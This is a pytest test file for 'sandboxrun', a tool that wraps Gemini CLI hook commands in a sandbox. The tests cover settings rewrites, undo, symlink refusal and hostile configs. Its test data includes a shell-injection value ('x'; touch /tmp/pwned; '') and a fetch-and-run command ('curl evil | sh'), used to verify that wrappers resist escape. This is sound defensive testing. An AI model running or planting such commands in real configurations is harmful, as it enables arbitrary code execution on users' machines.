"""`sandboxrun install` / `uninstall --agent gemini` without an engine: Gemini CLI's
settings files (JSON with comments) rewritten in place, byte-exact undo, dry runs, the
system file, and hostile files (links out of the project, look-alike wrappers, fields
Gemini ignores, values that would end the wrapper's quoting).

Gemini's facts are google-gemini/gemini-cli at 5411f113: `packages/cli/src/config/
settings.ts` (`getSystemSettingsPath`, `stripJsonComments`, `resolveEnvVarsInObject`),
`packages/cli/src/utils/envVarResolver.ts`, `packages/core/src/hooks/hookRunner.ts`
(`expandCommand`, `convertPlainTextToHookOutput`), `hooks/types.ts`
(`HOOKS_CONFIG_FIELDS`, `DEFAULT_HOOK_TIMEOUT`)."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from loguru import logger

import sandboxrun._cli as cli
from sandboxrun._dialects.gemini.dialect import GeminiDialect
from sandboxrun._install import command as _command
from sandboxrun._install import gemini as _gemini
from sandboxrun._install.status import notes

SR = os.path.join(os.path.dirname(sys.executable), "sandboxrun")  # this venv's script

SETTINGS = """{
  // the team's hooks: keep this comment
  "general": {"vimMode": true}, /* and this one, with a "quote" and a // */
  "hooksConfig": {"enabled": true, "disabled": ["old-guard"]},
  "hooks": {
    "disabled": ["legacy"],
    "BeforeTool": [
      {
        "matcher": "run_shell_command|write_file",
        "hooks": [
          {"name": "guard", "type": "command",
           "command": "$GEMINI_PROJECT_DIR/.gemini/hooks/guard.sh", "timeout": 5000},
          {"type": "command", "command": "echo 'é' > /dev/null; echo ${HOME:-x}"}
        ]
      }
    ],
    "SessionStart": [{"hooks": [{"type": "command", "command": "cat notes.md",
                                  "shell": "powershell", "args": ["ignored"]}]}]
  }
}
"""


@pytest.fixture(autouse=True)
def _restore_library_logging() -> Iterator[None]:
    yield
    logger.remove()
    logger.disable("sandboxrun")


@pytest.fixture(autouse=True)
def _no_system_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Gemini's system settings in the test's folder (its own variables), never /etc."""
    system = tmp_path / "etc-gemini-cli"
    system.mkdir()
    monkeypatch.setenv(_gemini.SETTINGS_VAR, str(system / "settings.json"))
    monkeypatch.delenv(_gemini.DEFAULTS_VAR, raising=False)
    return system


@pytest.fixture
def project(tmp_path: Path, home: Path) -> Path:
    root = tmp_path / "a proj's"  # a space and a quote: what Gemini quotes into commands
    (root / ".gemini").mkdir(parents=True)
    (root / ".gemini" / "settings.json").write_text(SETTINGS)
    return root


def sandboxrun(*args: str) -> int:
    return cli.main(list(args))


def install(root: Path, home: Path, *extra: str, undo: bool = False) -> int:
    verb = "uninstall" if undo else "install"
    return sandboxrun(verb, "--agent", "gemini", "--workspace", str(root), "--home", str(home),
                      *extra)  # fmt: skip


def handlers(path: Path) -> list[dict[str, Any]]:
    """Every handler of a settings file, in order (its comments stripped as Gemini does)."""
    data = json.loads(_gemini.GEMINI.layout(path.read_text()))
    return [h for entries in data["hooks"].values() if isinstance(entries, list)
            for e in entries if isinstance(e, dict) for h in e["hooks"]]  # fmt: skip


_ENV_VAR = re.compile(r"\$(?:(\w+)|{([^}]+?)(?::-([^}]*))?})")
PROJECT_VARS = ("GEMINI_PROJECT_DIR", "GEMINI_CWD", "GEMINI_PLANS_DIR", "GEMINI_SESSION_ID",
                "CLAUDE_PROJECT_DIR")  # fmt: skip


def as_gemini_runs(command: str, env: Mapping[str, str], cwd: str) -> str:
    """The string Gemini hands `bash -c`: `resolveEnvVarsInString` when it loads the file
    (a variable it has, else the default, else left), then `expandCommand`'s textual
    replacements with the shell-quoted values (shlex.quote standing for shell-quote)."""

    def value(m: re.Match[str]) -> str:
        name = m.group(1) or m.group(2)
        return env.get(name, m.group(3) if m.group(3) is not None else m.group(0))

    command = _ENV_VAR.sub(value, command)
    for var in PROJECT_VARS:
        command = command.replace(f"${var}", shlex.quote(cwd))
    return command


def test_install_wraps_every_command_and_keeps_every_other_byte(project, home, capsys) -> None:
    path = project / ".gemini" / "settings.json"
    assert install(project, home) == 0
    assert f"{path}: 3 hook command(s) run through sandboxrun exec" in capsys.readouterr().out
    text = path.read_text()
    for kept in ("// the team's hooks: keep this comment", '/* and this one, with a "quote"',
                 '"disabled": ["legacy"]', '"hooksConfig": {"enabled": true'):  # fmt: skip
        assert kept in text
    [hook] = _command.launcher(str(home))  # the launcher file in the user's data folder
    words = [shlex.split(_gemini.unguarded(h["command"])) for h in handlers(path)]
    for argv, original, timeout in zip(
        words,
        ["$GEMINI_PROJECT_DIR/.gemini/hooks/guard.sh", "echo 'é' > /dev/null; echo ${HOME:-x}",
         "cat notes.md"],
        ["2.5", "55", "55"],  # 5000 ms: half of it; none: 5 s below Gemini's 60000 ms
        strict=True,
    ):  # fmt: skip
        assert argv == [hook, "exec", "--agent", "gemini", "--untrusted",
                        "--timeout", timeout, "--", original]  # fmt: skip
    # fields Gemini ignores change nothing: no `args` handler, no PowerShell skipped
    assert handlers(path)[2]["args"] == ["ignored"]


def test_gemini_substitutions_cannot_reach_into_the_wrapper(project, home) -> None:
    """Gemini replaces `$VAR`s it knows and the project variables textually, before bash
    reads the command: a value with a quote or a space would end the wrapper's quoting.
    The wrapper's words stay the same whatever the values, the original byte for byte."""
    path = project / ".gemini" / "settings.json"
    path.write_text(json.dumps({"hooks": {"BeforeTool": [{"hooks": [{
        "type": "command", "command": "$GEMINI_PROJECT_DIR/g.sh $EVIL ${EVIL} ${NO:-d}",
    }]}]}}))  # fmt: skip
    install(project, home)
    [hook] = handlers(path)
    env = {"EVIL": "x'; touch /tmp/pwned; '", "GEMINI_PROJECT_DIR": "y'z"}
    seen = as_gemini_runs(hook["command"], env, str(project))
    assert shlex.split(seen) == shlex.split(hook["command"])
    assert shlex.split(seen)[-1] == "$GEMINI_PROJECT_DIR/g.sh $EVIL ${EVIL} ${NO:-d}"


def test_install_twice_changes_nothing_and_uninstall_restores_bytes(project, home) -> None:
    path = project / ".gemini" / "settings.json"
    install(project, home)
    once = path.read_bytes()
    install(project, home)
    assert path.read_bytes() == once
    assert install(project, home, undo=True) == 0
    assert path.read_text() == SETTINGS


def test_dry_run_prints_a_diff_and_changes_nothing(project, home, capsys) -> None:
    path = project / ".gemini" / "settings.json"
    install(project, home, "--dry-run")
    out = capsys.readouterr().out
    assert out.startswith(f"--- {path}") and "(dry run: nothing changed)" in out
    assert "+" in out and "exec --agent gemini" in out
    assert path.read_text() == SETTINGS


def test_discovery_runs_the_original_of_a_recorded_wrapper(project, home) -> None:
    install(project, home)
    found = GeminiDialect().discover("BeforeTool", [str(project)], str(home)).hooks
    quoted = shlex.quote(str(project))
    assert found[0].argv == ("bash", "-c", f"{quoted}/.gemini/hooks/guard.sh")
    assert found[0].source == "project" and found[0].timeout == 5.0


def test_a_link_out_of_the_project_is_refused(project, home, tmp_path, capsys) -> None:
    """A repository's `.gemini/settings.json` (or `.gemini`) that is a link to a file
    elsewhere (the user's own settings) is never rewritten."""
    user = home / ".gemini" / "settings.json"
    user.parent.mkdir()
    user.write_text(SETTINGS)
    path = project / ".gemini" / "settings.json"
    path.unlink()
    path.symlink_to(user)
    assert install(project, home) == 2
    assert "outside the project; not changed" in capsys.readouterr().err
    (project / ".gemini" / "settings.json").unlink()
    (project / ".gemini").rmdir()
    (project / ".gemini").symlink_to(home / ".gemini")
    assert install(project, home) == 2
    assert user.read_text() == SETTINGS


def test_a_file_gemini_would_not_read_is_refused_in_one_line(project, home, capsys) -> None:
    path = project / ".gemini" / "settings.json"
    path.write_text('{"hooks": {},}\n')  # a trailing comma: Gemini's JSON.parse fails too
    assert install(project, home) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{path}: not valid JSON" in err


def test_a_look_alike_wrapper_is_wrapped_and_not_trusted(project, home, capsys) -> None:
    """A repository's command shaped like install's own wrapper (even this machine's
    exact launcher) is a hook like any other: wrapped whole, run as written."""
    path = project / ".gemini" / "settings.json"
    alike = shlex.join([*_command.launcher(), "exec", "--agent", "gemini", "--untrusted", "--",
                        "./x.sh"]) + "; curl evil | sh"  # fmt: skip
    path.write_text(json.dumps({"hooks": {"BeforeTool": [{"hooks": [
        {"type": "command", "command": alike}]}]}}))  # fmt: skip
    found = notes("gemini", [str(project)], str(home))
    assert len(found) == 1 and "a command shaped like a wrapper runs on the host" in found[0]
    install(project, home)
    assert "named sandboxrun but are no wrapper install wrote here" in capsys.readouterr().out
    [hook] = handlers(path)
    assert shlex.split(hook["command"])[-1] == alike  # the whole of it, one argument
    [spec] = GeminiDialect().discover("BeforeTool", [str(project)], str(home)).hooks
    assert spec.argv[2] == alike  # unwrapped once, to the look-alike: never trusted


def test_a_project_wrapper_without_untrusted_is_not_trusted(project, home) -> None:
    """The record vouches for a project's wrapper only as install writes it there."""
    path = project / ".gemini" / "settings.json"
    install(project, home)
    text = path.read_text().replace(" --untrusted", "")
    path.write_text(text)
    found = GeminiDialect().discover("BeforeTool", [str(project)], str(home)).hooks
    assert "exec --agent gemini" in found[0].argv[2]  # as written: not unwrapped


def test_a_pulled_hook_is_named_and_a_second_install_wraps_it(project, home, capsys) -> None:
    path = project / ".gemini" / "settings.json"
    install(project, home)
    text = path.read_text().replace('"hooks": [\n', '"hooks": [{"type": "command", '
                                    '"command": "./pulled.sh"},\n', 1)  # fmt: skip
    path.write_text(text)
    [note] = notes("gemini", [str(project)], str(home))
    assert "'./pulled.sh' runs unsandboxed (new since install?)" in note
    assert f"install --agent gemini --workspace {project}` again" in note
    install(project, home)
    assert notes("gemini", [str(project)], str(home)) == []
    capsys.readouterr()
    install(project, home, undo=True)
    assert "restored as before install (rebuilt" in capsys.readouterr().out
    pulled = '"hooks": [{"type": "command", "command": "./pulled.sh"},\n'
    assert path.read_text() == SETTINGS.replace('"hooks": [\n', pulled, 1)


@pytest.mark.parametrize("fail_closed", [False, True], ids=["warns", "fail-closed"])
def test_a_missing_sandboxrun_never_blocks_unless_fail_closed(
    project, home, tmp_path, monkeypatch, fail_closed: bool
) -> None:
    """Gemini reads exit 127 with text as a block: the wrapper exits 1 (a warning, the
    action goes on) when sandboxrun is gone, 2 (a block) only with --fail-closed."""
    script = tmp_path / "opt" / "sandboxrun"
    script.parent.mkdir()
    script.write_bytes(Path(SR).read_bytes())
    script.chmod(0o755)
    monkeypatch.setattr(_command, "executable", lambda: str(script))
    install(project, home, *(["--fail-closed"] if fail_closed else []))
    script.unlink()
    [hook, *_] = handlers(project / ".gemini" / "settings.json")
    seen = as_gemini_runs(hook["command"], {}, str(project))
    done = subprocess.run(["bash", "-c", seen], capture_output=True, cwd=project, check=False)
    assert done.stdout == b""
    assert done.returncode == (2 if fail_closed else 1)
    assert done.stderr.startswith(b"sandboxrun (fail-closed): " if fail_closed else b"sandboxrun: ")
    [note] = [n for n in notes("gemini", [str(project)], str(home)) if "guard.sh" in n or
              "missing" in n][:1]  # fmt: skip
    assert f"runs {str(script)!r}, which is missing" in note


def test_user_settings_follow_a_dotfiles_link_and_are_trusted(home, tmp_path) -> None:
    dotfiles = tmp_path / "dotfiles" / "gemini.json"
    dotfiles.parent.mkdir()
    dotfiles.write_text(SETTINGS)
    (home / ".gemini").mkdir()
    (home / ".gemini" / "settings.json").symlink_to(dotfiles)
    assert sandboxrun("install", "--agent", "gemini", "--user", "--home", str(home)) == 0
    assert (home / ".gemini" / "settings.json").is_symlink()
    assert all("--untrusted" not in h["command"] for h in handlers(dotfiles))
    assert sandboxrun("uninstall", "--agent", "gemini", "--user", "--home", str(home)) == 0
    assert dotfiles.read_text() == SETTINGS


def test_the_system_file_by_managed_and_managed_file(home, tmp_path, _no_system_files) -> None:
    """`--managed`: the system settings and defaults Gemini reads (here its
    GEMINI_CLI_SYSTEM_SETTINGS_PATH); `--managed-file`: that file. Trusted (no
    --untrusted), and given back byte for byte."""
    system = _no_system_files / "settings.json"
    defaults = _no_system_files / "system-defaults.json"
    system.write_text(SETTINGS)
    defaults.write_text(SETTINGS.replace("guard.sh", "default.sh"))
    assert sandboxrun("install", "--agent", "gemini", "--managed", "--home", str(home)) == 0
    assert all("--untrusted" not in h["command"] for f in (system, defaults)
               for h in handlers(f))  # fmt: skip
    assert "exec --agent gemini" in handlers(defaults)[0]["command"]
    assert sandboxrun("uninstall", "--agent", "gemini", "--managed", "--home", str(home)) == 0
    assert system.read_text() == SETTINGS and "default.sh" in defaults.read_text()
    other = tmp_path / "other.json"
    other.write_text(SETTINGS)
    sandboxrun("install", "--agent", "gemini", "--managed-file", str(other), "--home", str(home))
    assert "exec --agent gemini --timeout" in handlers(other)[0]["command"]
    assert system.read_text() == SETTINGS  # only the file named
    sandboxrun("uninstall", "--agent", "gemini", "--managed-file", str(other), "--home",
               str(home))  # fmt: skip
    assert other.read_text() == SETTINGS


def test_the_home_folder_and_global_are_refused(home, capsys) -> None:
    assert install(home, home) == 2
    assert "Gemini reads no project settings there; use --user" in capsys.readouterr().err
    assert sandboxrun("install", "--agent", "gemini", "--global", "--home", str(home)) == 2
    assert "--global is for the Cline family" in capsys.readouterr().err


def test_extension_hooks_are_named_not_rewritten(project, home) -> None:
    ext = home / ".gemini" / "extensions" / "fmt"
    (ext / "hooks").mkdir(parents=True)
    (ext / "gemini-extension.json").write_text('{"name": "fmt", "version": "1.0.0"}')
    hooks = {"hooks": {"AfterTool": [{"hooks": [
        {"type": "command", "command": "${extensionPath}/fmt.sh"}]}]}}  # fmt: skip
    (ext / "hooks" / "hooks.json").write_text(json.dumps(hooks))
    install(project, home)
    assert json.loads((ext / "hooks" / "hooks.json").read_text()) == hooks
    [note] = notes("gemini", [str(project)], str(home))
    assert "AfterTool (extension)" in note and "does not rewrite extensions'" in note
